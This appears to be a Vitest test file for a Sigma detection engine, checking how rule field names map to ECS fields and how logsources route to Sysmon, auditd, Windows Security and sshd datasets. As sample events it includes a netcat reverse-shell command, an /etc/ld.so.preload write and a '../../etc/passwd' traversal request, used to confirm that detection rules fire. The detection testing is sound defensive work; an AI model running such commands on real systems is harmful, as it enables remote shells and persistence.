import { describe, expect, it } from 'vitest';
import {
  DEFAULT_MAPPINGS,
  type LogsourceMapping,
  mergeMappings,
  validateMappings,
} from '../../../src/threats/sigma/index.ts';
import { resolveField } from '../../../src/threats/sigma/mappings.ts';
import { detector, event, fires } from './helpers.ts';

const rule = (logsource: string, selection: string) =>
  `title: t\nid: t\nlogsource: {${logsource}}\ndetection:\n    selection:\n${selection.replace(/^/gm, '        ')}\n    condition: selection\n`;

describe('Sigma field names map to ECS fields per logsource', () => {
  const processCreation = rule(
    'product: linux, category: process_creation',
    "Image|endswith: '/nc'\nCommandLine|contains: ' -e '",
  );

  it("process_creation rules run on Sysmon for Linux event 1, with Sysmon's own field names", () => {
    const d = detector(processCreation);
    const fields = {
      'event.code': '1',
      'sysmon.Image': '/usr/bin/nc',
      'sysmon.CommandLine': 'nc -e /bin/sh 10.0.0.1 4444',
    };
    expect(fires(d, event('linux.sysmon', fields))).toBe(true);
  });

  it('process_creation rules run on auditd EXECVE events, through ECS process fields', () => {
    const d = detector(processCreation);
    const fields = {
      'event.action': 'process_created',
      'process.executable': '/usr/bin/nc',
      'process.command_line': 'nc -e /bin/sh 10.0.0.1 4444',
    };
    expect(fires(d, event('linux.auditd', fields))).toBe(true);
  });

  it('process_creation rules do not see other Sysmon events', () => {
    const d = detector(processCreation);
    const fields = {
      'event.code': '3',
      'sysmon.Image': '/usr/bin/nc',
      'sysmon.CommandLine': 'nc -e /bin/sh x',
    };
    expect(fires(d, event('linux.sysmon', fields))).toBe(false);
  });

  it("Sysmon's User keeps its DOMAIN\\user form", () => {
    const d = detector(
      rule('product: windows, category: process_creation', "User|startswith: 'NT AUTHORITY\\'"),
    );
    const fields = { 'event.code': '1', 'sysmon.User': 'NT AUTHORITY\\SYSTEM', 'user.name': 'SYSTEM' };
    expect(fires(d, event('windows.sysmon', fields))).toBe(true);
  });

  it('Windows process_creation also reads Security event 4688', () => {
    const d = detector(
      rule('product: windows, category: process_creation', "Image|endswith: '\\whoami.exe'"),
    );
    const fields = {
      'event.code': '4688',
      'winlog.event_data.NewProcessName': 'C:\\Windows\\System32\\whoami.exe',
    };
    expect(fires(d, event('windows.security', fields))).toBe(true);
  });

  describe('auditd rules use the record keys', () => {
    const audio = rule('product: linux, service: auditd', "type: EXECVE\na0: arecord\na1: '-vv'");
    it.each([
      [
        'decoded arguments and grouped record types',
        {
          'auditd.types': ['SYSCALL', 'EXECVE', 'PATH'],
          'auditd.data.a0': 'arecord',
          'auditd.data.a1': '-vv',
        },
        true,
      ],
      [
        'process.args when there is no auditd.data.aN',
        { 'auditd.types': ['EXECVE'], 'process.args': ['arecord', '-vv', '-fdat'] },
        true,
      ],
      [
        'an event without an EXECVE record',
        { 'auditd.types': ['SYSCALL'], 'auditd.data.a0': 'arecord', 'auditd.data.a1': '-vv' },
        false,
      ],
      [
        'a different argument',
        { 'auditd.types': ['EXECVE'], 'auditd.data.a0': 'arecord', 'auditd.data.a1': '-v' },
        false,
      ],
    ])('%s → %s', (_name, fields, expected) => {
      expect(fires(detector(audio), event('linux.auditd', fields))).toBe(expected);
    });

    it('unmapped auditd keys are read under auditd.data.', () => {
      const d = detector(
        rule(
          'product: linux, service: auditd',
          "type: SYSCALL\nexe|endswith: '/ecasound'\nSYSCALL: memfd_create",
        ),
      );
      const fields = {
        'auditd.types': ['SYSCALL'],
        'auditd.data.exe': '/usr/bin/ecasound',
        'auditd.data.SYSCALL': 'memfd_create',
      };
      expect(fires(d, event('linux.auditd', fields))).toBe(true);
    });
  });

  it('Windows Security: EventID is event.code, EventData names are read under winlog.event_data.', () => {
    const d = detector(
      rule('product: windows, service: security', 'EventID: 4624\nLogonType: 10\nTargetUserName|endswith: $'),
    );
    const fields = {
      'event.code': '4624',
      'winlog.event_data.LogonType': '10',
      'winlog.event_data.TargetUserName': 'PC01$',
    };
    expect(fires(d, event('windows.security', fields))).toBe(true);
    expect(fires(d, event('windows.security', { ...fields, 'winlog.event_data.LogonType': '3' }))).toBe(
      false,
    );
  });

  it('fields already in ECS form are read as written', () => {
    const d = detector(rule('product: linux, service: auth', "source.ip|cidr: '203.0.113.0/24'"));
    expect(fires(d, event('linux.auth', { 'source.ip': '203.0.113.9' }))).toBe(true);
  });
});

describe('logsources route to datasets', () => {
  const sshKeywords = rule('product: linux, service: sshd', "'|contains': 'Corrupted MAC on input'");

  it('sshd rules see sshd lines in auth.log and journald, not other programs', () => {
    const d = detector(sshKeywords);
    const line = 'Dec 10 06:55:46 host sshd[1]: Corrupted MAC on input.';
    expect(fires(d, event('linux.auth', { 'process.name': 'sshd', 'log.original': line }))).toBe(true);
    const json = JSON.stringify({ SYSLOG_IDENTIFIER: 'sshd', MESSAGE: 'Corrupted MAC on input.' });
    expect(
      fires(
        d,
        event('linux.journald', {
          'process.name': 'sshd',
          message: 'Corrupted MAC on input.',
          'log.original': json,
        }),
      ),
    ).toBe(true);
    expect(fires(d, event('linux.auth', { 'process.name': 'sudo', 'log.original': line }))).toBe(false);
    expect(fires(d, event('linux.auditd', { 'process.name': 'sshd', 'log.original': line }))).toBe(false);
  });

  it('keyword rules with only product: linux search every Linux log', () => {
    const d = detector(
      "title: t\nlogsource: {product: linux}\ndetection:\n  k: ['/etc/ld.so.preload']\n  condition: k\n",
    );
    for (const dataset of [
      'linux.auth',
      'linux.syslog',
      'linux.journald',
      'linux.auditd',
      'linux.sysmon',
    ] as const) {
      expect(fires(d, event(dataset, { 'log.original': 'echo x > /etc/ld.so.preload' }))).toBe(true);
    }
    expect(fires(d, event('windows.security', { 'log.original': 'echo x > /etc/ld.so.preload' }))).toBe(
      false,
    );
  });

  it('an event is only evaluated against the rules of its dataset', () => {
    const d = detector(
      `${rule('product: windows, service: security', 'EventID: 4625')}---\n${rule('product: linux, service: auth', 'user.name: root').replace('id: t', 'id: t2')}`,
    );
    d.process(event('linux.auth', { 'user.name': 'bob' }));
    d.process(event('azure.nsgflow', {}));
    expect(d.stats()).toMatchObject({
      events: 2,
      evaluations: 1,
      unroutedEvents: 1,
      byDataset: { 'linux.auth': 1, 'azure.nsgflow': 1 },
    });
  });

  it('a logsource with no mapping compiles but is listed as unrouted', () => {
    const d = detector(rule('product: macos, category: process_creation', 'Image: /bin/sh'));
    expect(d.unrouted).toEqual([
      { ruleId: 't', file: 'inline.yml', logsource: 'product: macos, category: process_creation' },
    ]);
    expect(d.rules).toMatchObject([{ ruleId: 't', datasets: [] }]);
  });
});

describe('users extend the mappings', () => {
  const nginx: LogsourceMapping = {
    logsource: { product: 'linux', service: 'nginx' },
    fields: { 'c-ip': 'source.ip', 'cs-uri': 'url.original' },
    routes: [{ dataset: 'linux.syslog', where: { 'process.name': 'nginx' } }],
  };

  it('a new logsource routes and maps as given', () => {
    const mappings = mergeMappings(DEFAULT_MAPPINGS, { logsources: [nginx] });
    const d = detector(
      rule('product: linux, service: nginx', "cs-uri|contains: '/etc/passwd'"),
      {},
      mappings,
    );
    expect(
      fires(d, event('linux.syslog', { 'process.name': 'nginx', 'url.original': '/?f=../../etc/passwd' })),
    ).toBe(true);
    expect(
      fires(d, event('linux.syslog', { 'process.name': 'apache', 'url.original': '/?f=../../etc/passwd' })),
    ).toBe(false);
  });

  it('extra fields for an existing logsource add to its table', () => {
    const mappings = mergeMappings(DEFAULT_MAPPINGS, {
      logsources: [
        { logsource: { product: 'windows', service: 'security' }, fields: { Host: 'host.name' }, routes: [] },
      ],
    });
    const d = detector(
      rule('product: windows, service: security', 'EventID: 1102\nHost: dc01'),
      {},
      mappings,
    );
    expect(fires(d, event('windows.security', { 'event.code': '1102', 'host.name': 'DC01' }))).toBe(true);
  });

  it('checks a mappings file and names each problem', () => {
    expect(validateMappings({ logsources: [nginx] }, 'm.json')).toEqual([]);
    expect(validateMappings({}, 'm.json')).toEqual(['m.json: needs a "logsources" list']);
    expect(
      validateMappings(
        {
          fields: { a: 3 },
          logsources: [{ logsource: {}, routes: [{ dataset: 'linux.nope' }] }, { routes: [] }],
        },
        'm.json',
      ),
    ).toEqual([
      'm.json.fields.a: must be a field name or a list of them',
      expect.stringMatching(/^m\.json\.logsources\[0\]\.routes\[0\]\.dataset: must be one of linux\.auth, /),
      'm.json.logsources[1]: needs "logsource" and "routes"',
    ]);
  });
});

describe('field resolution order', () => {
  const entry: LogsourceMapping = {
    logsource: {},
    fields: { A: 'from.entry', 'arg{n}': 'process.args[{n}]' },
    rawPrefix: 'raw.',
    routes: [],
  };
  const resolve = (name: string, routeFields = {}) =>
    resolveField(name, { dataset: 'linux.syslog', fields: routeFields }, entry, {
      logsources: [],
      fields: { G: 'from.global' },
    });

  it.each([
    ['A', {}, 'from.entry'],
    ['A', { A: 'from.route' }, 'from.route'],
    ['G', {}, 'from.global'],
    ['arg12', {}, 'process.args[12]'],
    ['argx', {}, 'raw.argx|argx'],
    ['Other', {}, 'raw.Other|Other'],
    ['raw.Other', {}, 'raw.Other'],
  ])('%s → %s', (name, routeFields, key) => {
    expect(resolve(name, routeFields).key).toBe(key);
  });

  it('parses array indexes', () => {
    expect(resolve('arg3').candidates).toEqual([{ field: 'process.args', index: 3 }]);
  });
});
